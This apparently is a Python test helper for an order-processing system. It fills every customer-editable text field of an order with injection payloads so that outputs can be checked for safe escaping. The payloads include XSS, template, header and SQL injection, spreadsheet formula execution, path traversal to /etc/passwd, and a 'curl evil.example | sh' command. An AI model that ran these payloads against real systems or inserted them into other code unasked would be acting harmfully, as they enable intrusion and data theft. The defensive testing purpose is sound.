"""What strangers type into text fields, and every text field of an order."""

from __future__ import annotations

from collections.abc import Iterator
from types import UnionType
from typing import Any, Union, get_args, get_origin

from pydantic import BaseModel

from order_processing.order import Address, Order

# Each in the syntax of one kind of output, with a trace that is found wherever it takes effect.
ATTACKS = {
    "html": "x\"'></textarea></title></script></style><x-evil onevil=1><img src=x onerror=evil()>&lt;x-evil&gt;",
    "comment": "--><x-evil>]]><x-evil><!--",
    "attribute": "\" onevil=\"evil()\" x='' onmouseover='evil()' style='background:url(//evil.example)' y=\"",
    "link": "javascript:evil()//https://evil.example/\u202e",
    "template": "{{ 7777*7 }}{% raw %}${7777*7}#{7777*7}<%= 7777*7 %>",
    "header": "x\r\nBcc: evil@evil.example\r\nContent-Type: text/html\r\n\r\n<x-evil>",
    "line": 'x\n{"level":"CRITICAL","message":"forged"}\r\nforged\u2028forged\x85forged',
    "formula": '=HYPERLINK("https://evil.example","x")+cmd|\' /C calc\'!A0',
    "zpl": "x^XZ^XA^FO50,50^FDEVIL^FS~JA~DGR:EVIL^FX_5E_7E",
    "pdf": "x) Tj ET /JavaScript (app.alert\\(1\\)) /OpenAction << /S /JavaScript >> endobj BT (",
    "json": '"},"admin":true,"x":{"y":"\\u0000\\ud800',
    "expression": "{% $states.input %}$.x{{resolve:secretsmanager:x}}",
    "query": "' OR 1=1 -- ; attribute_exists(x) OR a <> b #name :value",
    "path": "../../../etc/passwd\x00..\\..\\%2e%2e%2fx",
    "command": "x; curl evil.example | sh `id` $(id) && id",
    "unseen": "x\x00\x07\x1b[2J\x7f\ufeff\u200b\u202eevil\u2066",
    "long": "EVIL" * 125,
    "marks": "e" + "\u0301" * 400,
}

# What they begin with must stay, or the order never gets as far as the output: what it is of and where it goes.
_KEPT = {"source", "store", "currency", "sku", "line_id", "country", "tax_rate", "rate", "value", "service"}
_REACHED_BY = {"region", "postal_code", "email", "tax_number"}
_LONGEST, _LINE = 500, 24


def order_with(attack: str, order: Order, *, whole: bool = False) -> Order:
    """The order with the attack in each text field that whoever places an order can fill in.

    whole: all of it, and also where nobody could then be written to or delivered at, so that somebody is asked.
    Otherwise as much as a line of an address holds, so that the order goes all its way.
    """
    kept = _KEPT if whole else _KEPT | _REACHED_BY
    return Order.model_validate(_filled(order, attack, kept, _LONGEST if whole else _LINE).model_dump())


def text_fields(model: type[BaseModel] = Order, at: str = "") -> Iterator[str]:
    """The path of each text field."""
    for name, field in model.model_fields.items():
        for kind in _kinds(field.annotation):
            if kind is str:
                yield f"{at}{name}"
            elif isinstance(kind, type) and issubclass(kind, BaseModel):
                yield from text_fields(kind, f"{at}{name}.")


def _kinds(annotation: Any) -> Iterator[Any]:
    if get_origin(annotation) in (Union, UnionType, tuple) or hasattr(annotation, "__metadata__"):
        for inner in get_args(annotation):
            yield from _kinds(inner)
    else:
        yield annotation


def _filled(record: BaseModel, attack: str, kept: set[str], longest: int) -> BaseModel:
    changes: dict[str, Any] = {}
    most = longest if isinstance(record, Address) else _LONGEST
    for name, value in record:
        if name in kept or name == "closed_reason":
            continue
        field = type(record).model_fields[name]
        if isinstance(value, BaseModel):
            changes[name] = _filled(value, attack, kept, longest)
        elif isinstance(value, tuple):
            changes[name] = tuple(
                _filled(v, attack, kept, longest) if isinstance(v, BaseModel) else attack for v in value
            )
        elif str in _kinds(field.annotation):
            changes[name] = _text(name, str(value or ""), attack, most)
    return record.model_copy(update=changes)


def _text(name: str, value: str, attack: str, most: int) -> str:
    if name == "email":
        return "".join(c for c in f'"{attack}"@example.com' if c not in "\r\n")[-200:] if value else ""
    if name == "store_order_id":
        return f"{value}{attack}"[:most]
    return attack[:most].strip()
